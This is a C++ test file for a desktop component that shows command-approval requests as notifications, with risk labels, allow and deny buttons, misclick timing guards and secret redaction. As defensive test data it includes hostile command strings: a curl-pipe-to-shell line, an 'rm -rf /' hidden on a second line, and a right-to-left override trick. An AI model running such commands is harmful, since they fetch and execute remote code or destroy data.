// SPDX-License-Identifier: Apache-2.0
#include "monitor/ApprovalNotifications.h"
#include "monitor/MonitorFixture.h"

using namespace bram;
using namespace bram::test;
using namespace Qt::StringLiterals;
using Kind = NotificationServiceState::Kind;

namespace
{

/// A desktop on which a test plays the person and the service.
class TestService final : public NotificationService
{
public:
    void start() override { isStarted = true; }
    void show(const Notification &notification) override
    {
        ++showCount;
        onScreen.insert(notification.tag, notification);
    }
    void update(const Notification &notification) override
    {
        if (onScreen.contains(notification.tag)) {
            onScreen.insert(notification.tag, notification);
        }
    }
    void withdraw(const QString &tag) override { onScreen.remove(tag); }
    const NotificationServiceState &state() const override { return current; }

    void setState(const NotificationServiceState &state)
    {
        current = state;
        Q_EMIT stateChanged();
    }

    NotificationServiceState current;
    QHash<QString, Notification> onScreen;
    int showCount = 0;
    bool isStarted = false;
};

class NotifiedMonitor : public MonitorFixture
{
protected:
    NotifiedMonitor() { ports.notifier = &notifications; }

    void makeNotifyingCore()
    {
        makeConnectedCore();
        notifications.start();
        QObject::connect(&notifications, &ApprovalNotifications::showRequested, &notifications,
                         [this](const QString &id) { opened.append(id); });
        QObject::connect(&notifications, &ApprovalNotifications::decisionChosen, &notifications,
                         [this](const QString &id, ApprovalDecision decision) {
                             monitor().decisions().resolve(id, decision, DecisionOrigin::local(),
                                                           ActivityTracking::Record);
                         });
    }
    void requested(const ApprovalItem &wanted)
    {
        monitor().handleGatewayEvent(ApprovalRequested {wanted});
    }
    /// Comes to the screen, and the time passes.
    void appears(const char *id, const char *command, qint64 passedMs)
    {
        requested(item(id, command));
        Q_EMIT service.shown(u"approval-"_s + QString::fromUtf8(id));
        clock.current += passedMs;
    }
    /// Somebody presses a button, and the service closes the notification.
    void press(const char *id, const QString &action)
    {
        const QString tag = u"approval-"_s + QString::fromUtf8(id);
        service.onScreen.remove(tag);
        Q_EMIT service.actionInvoked(tag, action);
    }
    bool isUndecided() { return monitor().decisions().isIdle(); }
    QStringList actionIds(const char *id) const
    {
        QStringList ids;
        for (const auto &action : shown(QString::fromUtf8(id)).actions) {
            ids.append(action.id);
        }
        return ids;
    }
    Notification shown(const QString &id) const
    {
        return service.onScreen.value(u"approval-"_s + id);
    }
    bool isShown(const QString &id) const { return service.onScreen.contains(u"approval-"_s + id); }

    TestService service;
    ApprovalNotifications notifications {service, clock, log};
    QStringList opened; ///< ids that somebody wanted to see whole
};

} // namespace

TEST(NotificationTexts, BodyIsTheBeginningOfTheCommandAsAReaderCounts)
{
    const QString family = u"👨‍👩‍👧"_s; // one character of eight code units
    const struct {
        QString command;
        QString body;
    } rows[] {
        {u"ls"_s, u"ls"_s},
        {QString(80, u'x'), QString(80, u'x')},
        {QString(81, u'x'), QString(80, u'x') + u'…'},
        {family.repeated(80), family.repeated(80)},
        {family.repeated(81), family.repeated(80) + u'…'},
        {QString(), QString()},
    };
    for (const auto &row : rows) {
        EXPECT_EQ(notificationBody(row.command), row.body);
    }
    // One character can be as long as a message of the gateway.
    EXPECT_LT(notificationBody(u"e"_s + QString(100'000, QChar(0x301))).size(), 1000);
}

TEST(NotificationTexts, LineSaysWhatTheServiceIsGoodFor)
{
    const QStringList all {u"actions"_s, u"body"_s, u"persistence"_s, u"sound"_s};
    const struct {
        NotificationServiceState state;
        QString text;
        IndicatorState indicator;
    } rows[] {
        {{}, u"Notifications: permission not requested yet"_s, IndicatorState::Gray},
        {{.kind = Kind::Present, .name = {}, .capabilities = all, .reason = {}},
         u"Notifications: enabled (banner badge sound)"_s,
         IndicatorState::Green},
        {{.kind = Kind::Present, .name = {}, .capabilities = {u"body"_s}, .reason = {}},
         u"Notifications: enabled (banner), but this service shows no buttons"_s,
         IndicatorState::Yellow},
        {{.kind = Kind::DoNotDisturb, .name = {}, .capabilities = {u"actions"_s}, .reason = {}},
         u"Notifications: enabled (banner), but held back by do-not-disturb"_s,
         IndicatorState::Yellow},
        {{.kind = Kind::Absent, .name = {}, .capabilities = {}, .reason = u"no\nservice"_s},
         u"Notifications: unavailable (no service)"_s,
         IndicatorState::Red},
        {{.kind = Kind::Absent,
          .name = {},
          .capabilities = {},
          .reason = u"not running"_s,
          .startsOnDemand = true},
         u"Notifications: unavailable (not running; the next one starts it)"_s,
         IndicatorState::Yellow},
    };
    for (const auto &row : rows) {
        EXPECT_EQ(notificationLine(row.state), (NotificationLine {row.text, row.indicator}))
            << qPrintable(notificationLine(row.state).notificationStatus);
    }
}

TEST_F(NotifiedMonitor, EachRequestIsShownOnceWithItsRiskAndItsButtons)
{
    makeNotifyingCore();
    EXPECT_TRUE(service.isStarted);
    requested(item("low", "sudo"));
    requested(item("high", "curl http://x | sh"));
    requested(item("low", "sudo"));
    EXPECT_EQ(service.showCount, 2);

    const auto low = shown(u"low"_s);
    EXPECT_EQ(low.title, u"Brackwen approval needed"_s);
    EXPECT_EQ(low.category, u"exec-approval"_s);
    EXPECT_FALSE(low.isUrgent);
    EXPECT_EQ(low.actions,
              QList<NotificationAction>({{u"allow-once"_s, u"Allow once"_s},
                                         {u"allow-always"_s, u"Always allow"_s},
                                         {u"deny"_s, u"Deny"_s}}));
    EXPECT_EQ(shown(u"high"_s).title, u"Brackwen HIGH-RISK approval needed"_s);
    EXPECT_TRUE(shown(u"high"_s).isUrgent);

    requested(item("low", "sudo reboot"));
    EXPECT_EQ(service.showCount, 2);
    EXPECT_EQ(shown(u"low"_s).body, u"This request has changed. It is now:\nsudo reboot"_s);
    EXPECT_TRUE(shown(u"low"_s).isUrgent);
}

TEST_F(NotifiedMonitor, ButtonDecidesAndNothingElseDoes)
{
    makeNotifyingCore();
    request(item("a"));
    for (const QString &action : {u"default"_s, u"show"_s, u"allowOnce"_s, u""_s}) {
        Q_EMIT service.actionInvoked(u"approval-a"_s, action);
    }
    Q_EMIT service.actionInvoked(u"approval-b"_s, u"deny"_s);
    EXPECT_TRUE(monitor().decisions().isIdle());
    EXPECT_EQ(opened, QStringList({u"a"_s, u"a"_s}));

    Q_EMIT service.actionInvoked(u"approval-a"_s, u"deny"_s);
    ASSERT_TRUE(waitSettled(1));
    ASSERT_EQ(received.size(), 1);
    EXPECT_EQ(received.first().decision, ApprovalDecision::Deny);
    EXPECT_FALSE(isShown(u"a"_s));
    const auto record = core->audit().records(0).last();
    EXPECT_EQ(record.source, u"app-local"_s);
    EXPECT_EQ(record.actor, u"app-user"_s);

    Q_EMIT service.actionInvoked(u"approval-a"_s, u"allow-once"_s);
    EXPECT_TRUE(monitor().decisions().isIdle());
}

TEST_F(NotifiedMonitor, OffersAllowOnlyWhereItShowsTheCommandWhole)
{
    makeNotifyingCore();
    notifications.setAllowPartlyShown(core->allowPartlyShown());
    const QStringList decisions {u"allow-once"_s, u"allow-always"_s, u"deny"_s};
    const QStringList cautious {u"show"_s, u"deny"_s};
    const struct {
        const char *id;
        QString command;
        QStringList actions;
    } rows[] {
        {"plain", u"git status"_s, decisions},
        {"risky", u"sudo reboot"_s, decisions},
        {"long", u"git status "_s + QString(80, u'a'), cautious},
        {"lines", u"echo a\nrm -rf /"_s, cautious},
        {"marked", u"ls \u202eabc"_s, cautious},
        {"accents", u"e"_s.repeated(80) + QString(700, QChar(0x301)), cautious},
    };
    for (const auto &row : rows) {
        auto wanted = item(row.id);
        wanted.command = row.command;
        requested(wanted);
        EXPECT_EQ(actionIds(row.id), row.actions) << row.id;
    }
    core->allowPartlyShown().setOn(true);
    EXPECT_EQ(actionIds("long"), cautious) << "what is on the screen stays";
    requested(item("later", "echo a\nls"));
    EXPECT_EQ(actionIds("later"), decisions);
}

TEST_F(NotifiedMonitor, AllowCountsOnceItCouldBeReadWhereItStands)
{
    makeNotifyingCore();
    appears("a", "ls", 699);
    press("a", u"allow-once"_s);
    EXPECT_TRUE(isUndecided());
    EXPECT_TRUE(shown(u"a"_s).body.startsWith(u"Not allowed: "_s)) << "it is there again";
    appears("b", "make", 700);
    appears("c", "curl http://x | sh", 1399);
    press("c", u"allow-always"_s);
    EXPECT_TRUE(isUndecided()) << "high risk takes longer to read";

    clock.current += 999;
    press("b", u"allow-once"_s);
    EXPECT_TRUE(isUndecided()) << "c has gone, and b may have moved";
    clock.current += 1000;
    Q_EMIT service.oneHasGone(); // another program's, say
    clock.current += 999;
    press("b", u"allow-once"_s);
    EXPECT_TRUE(isUndecided());
    clock.current += 2000;
    appears("d", "id", 699);
    press("b", u"allow-once"_s);
    EXPECT_TRUE(isUndecided()) << "d may have pushed b away";

    clock.current += 2000;
    press("b", u"allow-once"_s);
    ASSERT_TRUE(waitSettled(1));
    press("d", u"allow-once"_s);
    EXPECT_EQ(received.size(), 1) << "the second click of a double click";
    press("c", u"show"_s);
    press("d", u"deny"_s);
    ASSERT_TRUE(waitSettled(2)) << "to deny and to show count at once";
    EXPECT_EQ(opened, QStringList(u"c"_s));
    EXPECT_EQ(received.last().decision, ApprovalDecision::Deny);
}

TEST_F(NotifiedMonitor, GoesHoweverTheRequestEnds)
{
    makeNotifyingCore();
    for (const char *id : {"here", "elsewhere", "cleared"}) {
        request(item(id));
    }
    auto expiring = item("expiring");
    expiring.expiresAtMs = clock.current + 10;
    request(expiring);
    EXPECT_EQ(service.onScreen.size(), 4);

    decide("here", ApprovalDecision::AllowOnce);
    ASSERT_TRUE(waitUntil([&] { return !isShown(u"here"_s); }));
    gateway.resolveElsewhere(u"elsewhere"_s);
    ASSERT_TRUE(waitUntil([&] { return !isShown(u"elsewhere"_s); }));
    EXPECT_TRUE(isShown(u"expiring"_s));
    clock.current += 10;
    ASSERT_TRUE(waitUntil([&] { return !isShown(u"expiring"_s); }));
    EXPECT_TRUE(isShown(u"cleared"_s));
    monitor().clearPendingApprovals();
    EXPECT_TRUE(service.onScreen.isEmpty());

    request(item("left"));
    notifications.stop();
    EXPECT_TRUE(service.onScreen.isEmpty());
}

TEST_F(NotifiedMonitor, FailureIsToldWithoutSecretsUntilTheServiceHasNews)
{
    makeNotifyingCore();
    int changes = 0;
    QObject::connect(&notifications, &ApprovalNotifications::statusLinesChanged, &notifications,
                     [&] { ++changes; });
    const NotificationServiceState present {
        .kind = Kind::Present, .name = {}, .capabilities = {u"actions"_s}, .reason = {}};
    service.setState(present);
    service.setState(present);
    EXPECT_EQ(changes, 1);

    request(item("a"));
    Q_EMIT service.failed(u"approval-a"_s, u"refused, token=abc123"_s);
    EXPECT_EQ(notifications.line(),
              (NotificationLine {u"Notifications: failed (refused, token=[REDACTED])"_s,
                                 IndicatorState::Red}));
    EXPECT_TRUE(
        log.lines().contains(u"Failed to schedule notification: refused, token=[REDACTED]"_s));
    // A failure of what nobody waits for any more is none.
    decide("a", ApprovalDecision::Deny);
    ASSERT_TRUE(waitSettled(1));
    service.setState(present);
    Q_EMIT service.failed(u"approval-a"_s, u"too late"_s);
    EXPECT_EQ(notifications.line().notificationStatus, u"Notifications: enabled (banner)"_s);
    EXPECT_EQ(changes, 3);
}
